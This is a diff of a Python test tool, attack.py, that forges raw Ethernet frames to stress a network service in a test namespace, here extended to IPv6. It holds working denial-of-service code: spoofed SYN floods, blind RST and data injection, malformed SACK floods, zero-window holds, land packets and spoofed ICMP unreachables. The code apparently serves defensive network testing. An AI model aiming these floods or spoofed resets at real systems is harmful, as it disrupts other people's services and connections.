@@ -1,12 +1,15 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: BSD-3-Clause
-"""Raw frames of attacks, for the network tests: attack.py KIND IFACE MAC VIP4 VIP6 PORT SECONDS [RATE]
+"""Raw frames of attacks, for the network tests:
 
-Sends from a packet socket on IFACE to MAC, as fast as it can or RATE frames per second, and prints
-how many. Sources: addresses that the kernel of this namespace does not have, so that it stays out
+    attack.py KIND IFACE MAC VIP4 VIP6 PORT SECONDS [RATE [FAMILY]]
+
+Sends from a packet socket on IFACE to MAC, as fast as it can (RATE 0) or RATE frames per second, and prints
+how many. FAMILY, 4 or 6, is that of TCP's segments. Sources: addresses that the kernel of this namespace does not have, so that it stays out
 of it (10.61.1.66 and fd61:1::66 are attackers with connections; sluice knows their MAC by
 'neighbour' lines). Kinds are the functions kind_* below.
 """
+import ctypes
 import random
 import select
 import signal
@@ -16,6 +19,7 @@ import sys
 import time
 
 ATTACKER4, ATTACKER6 = "10.61.1.66", "fd61:1::66"
+CLIENT4, CLIENT6 = "10.61.1.1", "fd61:1::1"
 FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
 
 
@@ -28,16 +32,32 @@ def csum(data, s=0):
     return ~s & 0xffff
 
 
+def packed(addr):
+    return socket.inet_pton(socket.AF_INET6 if ":" in addr else socket.AF_INET, addr)
+
+
 class Attack:
-    def __init__(self, iface, mac, vip4, vip6, port):
+    def __init__(self, iface, mac, vip4, vip6, port, family=4):
         self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
         self.s.bind((iface, 0))
         self.s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
         self.own = self.s.getsockname()[4]
         self.mac = bytes.fromhex(mac.replace(":", ""))
         self.vip4, self.vip6, self.port = vip4, vip6, port
+        self.v6 = family == 6
+        self.attacker, self.client = (ATTACKER6, CLIENT6) if self.v6 else (ATTACKER4, CLIENT4)
+        self.hear(packed(self.attacker))
         self.r = random.Random(1)
         self.sent = 0
+
+    def hear(self, us):
+        """From here on the socket sees frames to us alone, not all that wrk gets."""
+        # the type of the frame, the last word of its destination (linux/filter.h)
+        code = [(0x28, 0, 0, 12), (0x15, 0, 3, 0x86dd if self.v6 else 0x0800),
+                (0x20, 0, 0, 50 if self.v6 else 30), (0x15, 0, 1, struct.unpack("!I", us[-4:])[0]),
+                (0x06, 0, 0, 0xffff), (0x06, 0, 0, 0)]
+        prog = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *c) for c in code))
+        self.s.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HP", len(code), ctypes.addressof(prog)))
 
     # ---- building ----
 
@@ -55,16 +75,19 @@ class Attack:
                         socket.inet_pton(socket.AF_INET6, src) +
                         socket.inet_pton(socket.AF_INET6, dst or self.vip6) + payload)
 
-    def tcp(self, sport, seq, ack=0, flags=SYN, wnd=65535, opts=b"", data=b"", src=ATTACKER4,
+    def tcp(self, sport, seq, ack=0, flags=SYN, wnd=65535, opts=b"", data=b"", src=None,
             dport=None, dst=None, doff=None, urg=0):
         opts += b"\0" * (-len(opts) % 4)
         h = struct.pack("!HHIIBBHHH", sport, dport or self.port, seq & 0xffffffff,
                         ack & 0xffffffff, (5 + len(opts) // 4 if doff is None else doff) << 4, flags,
                         wnd, 0, urg) + opts + data
-        dst = dst or self.vip4
-        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!HH", 6, len(h))
+        src = src or self.attacker
+        v6 = ":" in src
+        dst = dst or (self.vip6 if v6 else self.vip4)
+        # what is summed for IPv6 (two words of length and protocol) is the same for IPv4
+        pseudo = packed(src) + packed(dst) + struct.pack("!II", len(h), 6)
         h = h[:16] + struct.pack("!H", csum(pseudo + h)) + h[18:]
-        return self.ip4(6, h, src=src, dst=dst)
+        return self.ip6(6, h, src=src, dst=dst) if v6 else self.ip4(6, h, src=src, dst=dst)
 
     def icmp4(self, kind, code, rest, payload, src=ATTACKER4):
         h = struct.pack("!BBHI", kind, code, 0, rest) + payload
@@ -98,39 +121,57 @@ class Attack:
             if rate and self.sent > (time.monotonic() - t0) * rate:
                 time.sleep(64.0 / rate)
 
+    def receive(self, sport, seconds):
+        """Segments to that port of the attacker's, as they come: (flags, sequence number, bytes)."""
+        # TCP's header behind 40 or 20 bytes of IP without options; protocol, destination, length
+        l4, proto, to, size = (54, 20, 38, 18) if self.v6 else (34, 23, 30, 16)
+        kind, us = b"\x86\xdd" if self.v6 else b"\x08\0", packed(self.attacker)
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            if not select.select([self.s], [], [], 0.2)[0]:
+                continue
+            f = self.s.recv(2048)
+            if (len(f) < l4 + 20 or f[12:14] != kind or f[proto] != 6 or f[to:to + len(us)] != us or
+                    struct.unpack("!H", f[l4 + 2:l4 + 4])[0] != sport):
+                continue
+            n = struct.unpack("!H", f[size:size + 2])[0] - (0 if self.v6 else 20) - (f[l4 + 12] >> 4) * 4
+            yield f[l4 + 13], struct.unpack("!I", f[l4 + 4:l4 + 8])[0], n
+
     def open(self, sport, mss=1460, opts=b"", wnd=65535):
         """A handshake by hand: (our next, theirs), or None."""
         isn = self.r.getrandbits(32)
         self.send(self.tcp(sport, isn, opts=(struct.pack("!BBH", 2, 4, mss) if mss is not None
                                             else b"") + opts, wnd=wnd))
-        end = time.monotonic() + 2
-        while time.monotonic() < end:
-            r, _, _ = select.select([self.s], [], [], 0.2)
-            if not r:
-                continue
-            f = self.s.recv(2048)
-            if (len(f) < 54 or f[12:14] != b"\x08\0" or f[23] != 6 or
-                    f[30:34] != socket.inet_aton(ATTACKER4) or
-                    struct.unpack("!H", f[36:38])[0] != sport or f[47] != SYN | ACK):
-                continue
-            theirs = struct.unpack("!I", f[38:42])[0] + 1
-            self.send(self.tcp(sport, isn + 1, theirs, ACK, wnd=wnd))
-            return isn + 1, theirs
+        for flags, seq, _ in self.receive(sport, 2):
+            if flags == SYN | ACK:
+                self.send(self.tcp(sport, isn + 1, seq + 1, ACK, wnd=wnd))
+                return isn + 1, seq + 1
         return None
+
+    def shut(self, sport, data):
+        """Says something, takes what one segment holds, and leaves the window closed."""
+        c = self.open(sport, wnd=1460)
+        if c is None:
+            return
+        self.send(self.tcp(sport, c[0], c[1], ACK | PSH, data=data, wnd=1460))
+        for _, seq, n in self.receive(sport, 1):
+            if n > 0:
+                self.send(self.tcp(sport, c[0] + len(data), seq + n, ACK, wnd=0))
 
     # ---- kinds: each sends for that long ----
 
     def kind_syn(self, seconds, rate):
         """SYNs from everywhere."""
+        net = "fd61:%x::%x" if self.v6 else "198.18.%d.%d"
         frames = [self.tcp(self.r.randrange(1024, 65536), self.r.getrandbits(32),
-                           opts=b"\2\4\5\xb4\4\2\1\3\3\7", src="198.18.%d.%d" % (
-                               self.r.randrange(256), self.r.randrange(1, 255)))
+                           opts=b"\2\4\5\xb4\4\2\1\3\3\7", src=net % (
+                               self.r.randrange(256) + 256 * self.v6, self.r.randrange(1, 255)))
                   for _ in range(20000)]
         self.flood(frames, seconds, rate)
 
     def blind(self, flags, seconds, rate, data=b""):
         frames = [self.tcp(p, self.r.getrandbits(32), self.r.getrandbits(32), flags,
-                           src="10.61.1.1", data=data) for p in range(32768, 61000, 3)]
+                           src=self.client, data=data) for p in range(32768, 61000, 3)]
         self.flood(frames, seconds, rate)
 
     def kind_rst(self, seconds, rate):
@@ -142,17 +183,20 @@ class Attack:
     def kind_data(self, seconds, rate):
         self.blind(ACK | PSH, seconds, rate, b"x" * 100)
 
-    def on_conn(self, seconds, frames_of, n=8, **kw):
-        """Connections by hand, and what frames_of(sport, seq, ack) makes on each."""
+    def on_conn(self, seconds, rate, first, frames_of, n=8, **kw):
+        """Connections by hand, from port `first` on, and what frames_of(sport, seq, ack) makes on each."""
         frames = []
         for i in range(n):
-            sport = 20000 + i
+            sport = first + i
             c = self.open(sport, **kw)
             if c:
-                frames += frames_of(sport, *c)
+                new = frames_of(sport, *c)
+                for f in new:  # at once: before long nobody listens any more
+                    self.send(f)
+                frames += new
         if not frames:
             sys.exit("no connection")
-        self.flood(frames, seconds)
+        self.flood(frames, seconds, rate)
 
     def kind_sack(self, seconds, rate):
         """Acknowledgements full of SACK blocks: inverted, beyond, overlapping, one byte each."""
@@ -166,11 +210,11 @@ class Attack:
                                           (i, i + 60000)))
                 f.append(self.tcp(sport, seq + len(get), ack, ACK, opts=b"\1\1\5\x22" + b))
             return f
-        self.on_conn(seconds, frames, opts=b"\4\2")
+        self.on_conn(seconds, rate, 20000, frames, opts=b"\4\2")
 
     def kind_reverse(self, seconds, rate):
         """One byte in a segment, from the end to the beginning, which never comes."""
-        self.on_conn(seconds, lambda sport, seq, ack: [
+        self.on_conn(seconds, rate, 21000, lambda sport, seq, ack: [
             self.tcp(sport, seq + i, ack, ACK, data=b"x") for i in range(1500, 0, -1)], n=8)
 
     def kind_mss(self, seconds, rate):
@@ -184,14 +228,15 @@ class Attack:
         time.sleep(seconds)
 
     def kind_window(self, seconds, rate):
-        """A window that shrinks, closes, opens for a byte, and closes."""
+        """A window that shrinks, closes, opens for a byte, and closes; and one that stays closed."""
         get = b"GET /big HTTP/1.1\r\nHost: a\r\n\r\n"
+        self.shut(23000, get)
 
         def frames(sport, seq, ack):
             f = [self.tcp(sport, seq, ack, ACK | PSH, data=get, wnd=2000)]
             return f + [self.tcp(sport, seq + len(get), ack + w % 3, ACK, wnd=w)
                         for w in (1500, 1000, 500, 1, 0, 1, 0, 3, 0, 65535, 0)]
-        self.on_conn(seconds, frames)
+        self.on_conn(seconds, rate, 22000, frames)
 
     def kind_land(self, seconds, rate):
         """From ourselves to ourselves; from groups, from nowhere, from port 0."""
@@ -236,12 +281,15 @@ class Attack:
         """Frag-needed with every MTU, unreachables, quoting connections by guess."""
         f = []
         for p in range(32768, 61000, 7):
-            q = self.tcp(self.port, self.r.getrandbits(32), src=self.vip4, dst="10.61.1.1",
+            q = self.tcp(self.port, self.r.getrandbits(32), src=self.vip4, dst=CLIENT4,
                          dport=p)[14:42]
             f.append(self.icmp4(3, 4, self.r.choice((0, 1, 68, 296, 576, 1280)), q))
             f.append(self.icmp4(3, self.r.randrange(16), 0, q))
             f.append(self.icmp4(self.r.choice((4, 5, 11, 12, 13, 17)), 0, 0, q))
-        f.append(self.icmp6(2, 0, struct.pack("!I", 68) + bytes(60)))
+            q = self.tcp(self.port, self.r.getrandbits(32), src=self.vip6, dst=CLIENT6,
+                         dport=p)[14:62]
+            f.append(self.icmp6(2, 0, struct.pack("!I", self.r.choice((0, 68, 1279, 1280))) + q))
+            f.append(self.icmp6(1, self.r.randrange(8), bytes(4) + q))
         f.append(self.icmp6(134, 0, bytes(40)))
         f.append(self.icmp6(137, 0, bytes(40)))
         self.flood(f, seconds, rate)
@@ -279,7 +327,8 @@ def over(*_):
 
 def main():
     kind, iface, mac, vip4, vip6, port, seconds = sys.argv[1:8]
-    a = Attack(iface, mac, vip4, vip6, int(port))
+    family = int(sys.argv[9]) if len(sys.argv) > 9 else 4
+    a = Attack(iface, mac, vip4, vip6, int(port), family)
     rate = float(sys.argv[8]) if len(sys.argv) > 8 else 0
     signal.signal(signal.SIGTERM, over)
     try:
